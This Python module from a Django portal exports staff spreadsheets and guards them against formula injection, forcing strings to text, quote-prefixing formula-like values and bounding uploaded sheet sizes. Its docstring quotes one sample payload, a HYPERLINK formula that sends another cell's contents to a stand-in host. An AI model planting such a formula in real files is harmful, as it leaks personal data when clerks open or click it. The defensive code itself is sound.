"""Every spreadsheet the portal writes for staff goes through here.

The values in an export come from residents (names, organisations, what they need) and from
staff; a value such as ``=HYPERLINK("http://x.example/?p="&F2,"看")`` must reach the sheet as the
text it is, never as a formula that runs when a clerk opens or clicks it.

openpyxl decides a cell's type from the value: a string longer than one character that starts
with ``=`` becomes a formula (``data_type "f"``), a string such as ``#N/A`` an error value. So
every string is written and then typed as text (``data_type "s"``); the visible text is exactly
what was entered. A value that starts with ``= + - @``, a tab or a carriage return is also
marked ``quotePrefix`` — the Excel equivalent of typing a leading apostrophe — so that Excel and
LibreOffice keep it as text even when a clerk edits the cell afterwards. Characters XML cannot
hold (control characters other than tab, CR and LF) are dropped instead of failing the export.

Every sheet gets a bold, frozen header row and columns wide enough for their contents.

CSV has no cell types, so the CSV export (django-import-export, see `SafeCSV`) prefixes such a
value with an apostrophe, as OWASP advises; there the apostrophe is visible.
"""

from collections.abc import Iterable, Iterator, Sequence
from io import BytesIO
from unicodedata import east_asian_width
from urllib.parse import quote

from django.http import HttpResponse
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What makes Excel, LibreOffice or Google Sheets read a typed or imported value as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MIN_WIDTH, MAX_WIDTH = 6, 60


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _display_width(value: object) -> int:
    """Roughly how many narrow characters wide the value shows (a Chinese character is two)."""
    if value is None:
        return 0
    text = value.isoformat() if hasattr(value, "isoformat") else str(value)
    longest = max(text.splitlines() or [""], key=len)
    return sum(2 if east_asian_width(ch) in "WF" else 1 for ch in longest)


def write_cell(sheet: Worksheet, row: int, column: int, value: object) -> None:
    """Write one value: numbers and dates as themselves, every string as text."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.data_type = "s"  # never "f" (formula) or "e" (error), whatever the text
        if is_formula_like(value):
            cell.quotePrefix = True
    else:
        cell.value = value


def fill_sheet(
    sheet: Worksheet,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    footer: Sequence[str] = (),
) -> None:
    """Headers (bold, frozen), the rows, and after a blank row one footer line per item."""
    widths = [_display_width(header) for header in headers]
    for column, header in enumerate(headers, start=1):
        write_cell(sheet, 1, column, header)
        sheet.cell(row=1, column=column).font = Font(bold=True)
    row_number = 1
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            write_cell(sheet, row_number, column, value)
            if column <= len(widths):
                widths[column - 1] = max(widths[column - 1], _display_width(value))
    for offset, line in enumerate(footer, start=2):
        write_cell(sheet, row_number + offset, 1, line)
    sheet.freeze_panes = "A2"
    for column, width in enumerate(widths, start=1):
        letter = get_column_letter(column)
        sheet.column_dimensions[letter].width = min(max(width + 2, MIN_WIDTH), MAX_WIDTH)


def workbook_bytes(
    title: str, headers: Sequence[str], rows: Iterable[Sequence], footer: Sequence[str] = ()
) -> bytes:
    """One sheet named `title` (cut to Excel's 31 characters), as the bytes of an xlsx file."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    fill_sheet(sheet, headers, rows, footer)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    filename: str,
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    footer: Sequence[str] = (),
) -> HttpResponse:
    """A download of the sheet; personal data, so never stored by a cache on the way."""
    response = HttpResponse(workbook_bytes(title, headers, rows, footer), XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    response["Cache-Control"] = "private, no-store"
    return response


# --- django-import-export formats (the service-point list in admin) ---------------------------


class SafeXLSX(base_formats.XLSX):
    """django-import-export's xlsx export written by `fill_sheet`: text stays text, visibly
    unchanged (the library's own escape would delete a leading "=" and only that)."""

    def export_data(self, dataset, **kwargs) -> bytes:
        return workbook_bytes(dataset.title or "Sheet1", dataset.headers or [], dataset)


class SafeCSV(base_formats.CSV):
    """CSV with an apostrophe before every value a spreadsheet would read as a formula."""

    def export_data(self, dataset, **kwargs) -> str:
        for _ in range(len(dataset)):
            row = dataset.lpop()
            dataset.append([f"'{value}" if is_formula_like(value) else value for value in row])
        return dataset.export("csv", **kwargs)


# --- Reading a sheet a clerk uploads -----------------------------------------------------------


class SheetTooLarge(ValueError):
    """The sheet reaches past the rows or columns an import reads; the message says how to fix."""


def bounded_rows(sheet, max_rows: int, max_columns: int) -> Iterator[tuple]:
    """The values of a read-only sheet's rows, row by row, never past `max_rows` rows
    (header included) nor `max_columns` columns.

    openpyxl's read-only mode streams the XML, but fills every gap up to the sheet's declared
    size: one cell at XFD1048576 would make it hand out a million rows of 16 384 cells. So the
    size the file declares is checked first (refused at once, with what to do), and the rows
    are read within the bounds whatever the file declares, so a file that lies about its size
    costs no more than one that does not."""
    rows, columns = sheet.max_row or 0, sheet.max_column or 0
    if rows > max_rows or columns > max_columns:
        raise SheetTooLarge(
            f"表格太大：第1个工作表用到了第 {rows} 行、第 {columns} 列，"
            f"这里最多读 {max_rows} 行（含表头）、{max_columns} 列。"
            "请删去表格下方和右侧多余的行列（或把有数据的部分复制到新表）后重新上传。"
        )
    yield from sheet.iter_rows(
        max_row=min(rows, max_rows) or max_rows,
        max_col=min(columns, max_columns) or max_columns,
        values_only=True,
    )
